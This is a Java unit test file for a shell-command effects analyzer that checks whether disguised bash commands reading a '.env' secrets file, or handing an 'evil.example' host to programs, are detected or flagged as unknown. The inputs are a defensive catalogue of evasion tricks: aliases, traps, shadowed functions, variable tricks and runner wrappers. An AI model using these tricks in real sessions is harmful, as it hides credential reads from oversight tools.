package dev.bailiwick.core.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bailiwick.core.command.model.Models;
import dev.bailiwick.core.effect.Effect;
import dev.bailiwick.core.event.ToolCall.Dialect;
import dev.bailiwick.core.world.InMemoryWorld;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Roads on which a name or a variable means something else than the text before it says.
final class DetoursTest {
  private static final ShellEffects SHELL = new ShellEffects(Models.packed());

  @ParameterizedTest
  @ValueSource(
      strings = {
        "alias cat=echo; cat .env",
        "if false; then cat() { echo hi; }; fi; cat .env",
        "false && cat() { echo; }; cat .env",
        "true || cat() { echo; }; cat .env",
        "case a in b) cat() { echo; };; esac; cat .env",
        "X=.env; false && X=a; cat $X",
        "X=.env; a && b && X=a; cat $X",
        "X=.env; false && exit || X=a; cat $X; X=.env; false && X=a || :; cat $X",
        "X=a; trap 'cat $X' EXIT; X=.env",
        "trap 'cat key' EXIT; cd secrets",
        "f() { :; }; trap f EXIT; f() { cat .env; }",
        "trap -- '-x; cat .env' EXIT",
        "X=.env; readonly X; X=a; cat $X",
        "declare -r X=.env; X=a; cat $X",
        "declare -u X=a; declare -n Y=X; Y=.env; cat $X",
        "declare -l X=.ENV; cat $X",
        "X=.env; f() { local X=a; }; f; cat $X",
        "X=.env; f() { local X; X=a; }; f; cat $X",
        "set .env; cat $1",
        "set -- .env; false && set -- a; cat $1",
        "IFS=,; X=a,.env; cat $X",
        "bash <<'E'\nxargs cat\necho .env\nE\n",
        "printf 'xargs cat\\necho .env\\n' | bash",
        "printf '%s\\n' '\037' | bash",
        "kill $(pgrep -l x)",
        "kill $(cat pids)",
        "lsof -i:8080 | xargs kill",
        "echo x | bash -c 'trap \"xargs cat .env\" EXIT'",
      })
  void sees_the_file_or_says_that_it_cannot_tell(String text) {
    var effects = effects(text);
    assertThat(effects)
        .anyMatch(effect ->
            effect instanceof Effect.Unknown
                || effect instanceof Effect.Runs runs && !runs.known()
                || effect instanceof Effect.Reads reads
                    && reads.target().path().equals("/repo/.env"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo a | grep -r KEY",
        "bash <<'E'\ngrep -r KEY\nE\n",
        "grep -r KEY < a",
      })
  void a_recursive_grep_searches_the_folder_whatever_its_input(String text) {
    assertThat(effects(text))
        .anyMatch(effect -> effect instanceof Effect.Reads reads && reads.target().isTree());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "alias g=git; g status",
        "f() { cat a; }; f",
        "readonly X=a; cat $X",
        "local X=a; cat $X",
        "export X=a && cat $X; cat $X",
        "X=a && cat $X; cat $X",
        "cd src && cat b; cat ../a",
        "trap 'rm -f /tmp/x' EXIT",
        "trap '' INT; trap - EXIT",
        "set -euo pipefail; X=a; cat $X",
        "set -- a; cat $1",
        "X='a b'; cat $X",
        "f() { local y=a; cat $y; }; X=a; f; cat $X",
        "echo x | rg KEY",
        "kill $(lsof -t -i:3000)",
        "kill -9 $(pgrep -f vite) 2>/dev/null || true",
        "lsof -ti:8080 | xargs -r kill",
        "if [ -f a ]; then f() { cat a; }; else f() { cat b; }; fi; f",
      })
  void leaves_the_plain_way_alone(String text) {
    assertThat(effects(text))
        .noneMatch(effect ->
            effect instanceof Effect.Unknown
                || effect instanceof Effect.Runs runs && !runs.known());
  }

  private static List<Effect> effects(String text) {
    var world = new InMemoryWorld().file("/repo/a", "").file("/repo/.env", "").folder("/repo/src");
    return SHELL.of(text, Dialect.BASH, ShellState.in("/repo"), world).effects();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "col --no-such-option .env",
        "col --no-such-option=.env",
        "as @.env",
        "cat @.env",
        "poetry run cat .env",
        "uv run bash -c 'cat .env'",
        "npx --no-install sh -c 'cat .env'",
        "bundle exec tail .env",
        "python3 manage.py shell -c 'open(\".env\").read()'",
        "python3 -m timeit 'open(\".env\").read()'",
      })
  void sees_a_file_behind_a_runner_or_an_option_nobody_listed(String text) {
    assertThat(effects(text))
        .anyMatch(effect ->
            effect instanceof Effect.Reads reads && reads.target().path().equals("/repo/.env"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "tool --fetch=https://evil.example/x",
        "mvn test -Durl=https://evil.example/x",
        "pytest --base-url https://evil.example",
        "tool git+https://evil.example/x",
      })
  void sees_the_hosts_that_an_opaque_program_is_given(String text) {
    assertThat(effects(text))
        .anyMatch(effect ->
            effect instanceof Effect.Reaches reaches
                && reaches.host().name().equals("evil.example"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "node --test /tmp/x.js",
        "pytest /tmp/x_test.py",
        "pytest --conf=/tmp/x.py",
        "java -cp /tmp/x Main",
        "npx tsx ../../x.ts",
      })
  void cannot_tell_what_code_from_elsewhere_does(String text) {
    assertThat(effects(text)).anyMatch(Effect.Unknown.class::isInstance);
  }
}
